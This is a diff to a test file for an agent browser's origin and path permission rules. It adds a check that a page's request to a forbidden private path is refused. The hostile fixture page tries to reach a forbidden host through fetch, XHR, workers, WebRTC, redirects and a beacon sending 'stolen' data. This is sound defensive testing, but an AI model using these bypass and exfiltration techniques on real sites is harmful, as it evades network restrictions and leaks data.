@@ -44,6 +44,7 @@ settled.push(rtc.createOffer().then((o) => rtc.setLocalDescription(o)).then(() =
   rtc.onicegatheringstatechange = () => { if (rtc.iceGatheringState === "complete") r("rtc gathered"); };
 })));
 settled.push(new Promise((r) => { const img = new Image(); img.onload = () => r("redirected img reached"); img.onerror = () => r("redirected img refused"); img.src = "/bounce"; }));
+settled.push(fetch("/private/data").then(() => "private reached", () => "private refused"));
 settled.push(fetch("${f}/fetch", { mode: "no-cors" }).then(() => "fetch reached", () => "fetch refused"));
 settled.push(new Promise((r) => { const x = new XMLHttpRequest(); x.open("GET", "${f}/xhr"); x.onload = () => r("xhr reached"); x.onerror = x.onabort = () => r("xhr refused"); x.send(); }));
 navigator.sendBeacon("${f}/beacon", "stolen");
@@ -89,6 +90,8 @@ beforeAll(async () => {
     "",
     "## Forbidden",
     `- \`browser.*(${forbidden.origin}/**)\``,
+    // A path rule holds too: requests are decided by their whole URL, not only their origin.
+    `- \`browser.*(${allowed.origin}/private/**)\``,
     "",
   ].join("\n");
   await writeFile(join(worksite.path, "PERMISSIONS.md"), permissions);
@@ -161,7 +164,7 @@ describe("every request a page makes goes through the origin rules", () => {
 
     // What the page itself saw: every attempt failed, its own socket opened.
     const read = (await call("browser.read", {})).result.content;
-    for (const seen of ["fetch refused", "xhr refused", "ws refused", "own ws open", "es refused", "worker fetch refused,worker ws refused", "sw fetch refused", "rtc gathered", "redirected img refused"]) {
+    for (const seen of ["fetch refused", "xhr refused", "ws refused", "own ws open", "es refused", "worker fetch refused,worker ws refused", "sw fetch refused", "rtc gathered", "redirected img refused", "private refused"]) {
       expect(read).toContain(seen);
     }
     const types = typesFor(entries, forbidden.origin);
@@ -176,6 +179,8 @@ describe("every request a page makes goes through the origin rules", () => {
     // Allowed traffic still flows: the page's own WebSocket opened, its worker and service worker loaded.
     expect(allowed.upgrades).toContain("GET /own-socket");
     expect(allowed.requests).toEqual(expect.arrayContaining(["GET /attack", "GET /worker.js", "GET /sw.js"]));
+    expect(allowed.requests).not.toContain("GET /private/data");
+    expect(typesFor(entries, allowed.origin)).toMatchObject({ XHR: 1 });
     // The agent is told too, in the result of the call during which it happened.
     expect(told.join("\n")).toMatch(new RegExp(`Blocked \\d+ requests? the page made on its own:\\n  ${forbidden.origin.replace(/[.]/g, "\\.")}: \\d+`));
     // One summary entry per call at most: the log holds counts, not one line per image.
